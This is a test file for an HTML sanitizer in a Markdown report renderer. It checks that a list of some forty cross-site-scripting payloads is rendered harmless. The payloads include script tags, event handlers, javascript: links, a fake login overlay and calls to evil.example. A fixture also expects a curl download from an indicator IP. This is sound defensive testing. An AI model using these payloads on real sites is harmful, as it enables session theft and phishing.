import { JSDOM } from 'jsdom';
import { renderReport } from '../../../src/web/view/report.ts';
import { expect, test } from '../../support/test.ts';
import { sampleArticle } from '../../support/web/index.ts';

const render = (markdown: string) => String(renderReport({ markdown, indicators: [] }));
const dom = (markdown: string) => new JSDOM(`<body>${render(markdown)}</body>`).window.document.body;

/** Every way that we know to get from Markdown to script: markup, links, pictures, references, entities, odd bytes. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=q><button>go',
  '<style>*{background:url(//evil.example)}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<object data="javascript:alert(1)"></object>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](https://evil.example "title\\" onmouseover=\\"alert(1)")',
  '![x](javascript:alert(1))',
  '![" onerror="alert(1)](x)',
  '![x](https://evil.example/track.png)',
  '![x](x "t\' onerror=alert(1) ")',
  '<https://evil.example/"onmouseover="alert(1)>',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '@[attribute](<script>alert(1)</script>)',
  '@[tag](x"onmouseover="alert(1))',
  '@[galaxymatrix](x)<img src=x onerror=alert(1)>',
  '```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr\u0000ipt>alert(1)</script>',
  '\u202e<img src=x onerror=alert(1)>',
  '<div style="position:fixed;inset:0">you are logged out, enter your password</div>',
  '<a id=location><a name=cookie>',
];

for (const attack of ATTACKS)
  test(`harmless: ${JSON.stringify(attack)}`, () => {
    for (const markdown of [attack, `text ${attack} text`, `> ${attack}`, `- ${attack}`]) {
      const body = dom(markdown);
      for (const element of body.querySelectorAll('*')) {
        expect([
          'P',
          'BR',
          'HR',
          'H2',
          'H3',
          'H4',
          'H5',
          'H6',
          'UL',
          'OL',
          'LI',
          'BLOCKQUOTE',
          'PRE',
          'CODE',
          'EM',
          'STRONG',
          'S',
          'SPAN',
          'TABLE',
          'THEAD',
          'TBODY',
          'TR',
          'TH',
          'TD',
        ]).toContain(element.tagName);
        for (const name of element.getAttributeNames()) expect(['class', 'title', 'start', 'tabindex']).toContain(name);
      }
    }
  });

test('values stand as references with their type, detection marked, code left as it is', () => {
  const body = new JSDOM(`<body>${renderReport(sampleArticle())}</body>`).window.document.body;
  const references = [...body.querySelectorAll('.ref')].map((element) => [element.textContent, element.classList.contains('ids')]);
  expect(references).toEqual([
    ['domain portside-metrics.com', true],
    ['ipv4 45.142.213.67', true],
    ['sha256 6f1ed002ab5595859014ebf0951522d9a1bd1b1e6ccf6b1b6bc9c8f6e1a4d2b7', true],
    ['cve CVE-2023-34362', false],
  ]);
  expect(body.querySelector('pre')?.textContent).toBe('curl http://45.142.213.67/drv/setup.cab\n');
  expect(body.querySelector('table td')?.textContent).toBe('prnmon64.dll');
});

test('links are notes with their address at the end, pictures their description, and none can be followed', () => {
  const body = dom('See [the advice](https://vendor.example/a) and ![a map](https://vendor.example/m.png).');
  expect(body.querySelector('p')?.textContent).toBe('See the advice [1] and Picture: a map [2].');
  const targets = [...body.querySelectorAll('.deadlink')].map((element) => element.textContent);
  expect(targets).toEqual(['https://vendor.example/a', 'https://vendor.example/m.png']);
  expect(body.querySelector('a, img')).toBeNull();
});

test('references that a report brings itself are plain text', () => {
  const body = dom('@[tag](misp-galaxy:threat-actor="APT29")');
  expect(body.querySelector('.ref')).toBeNull();
  expect(body.textContent).toContain('misp-galaxy:threat-actor="APT29"');
});
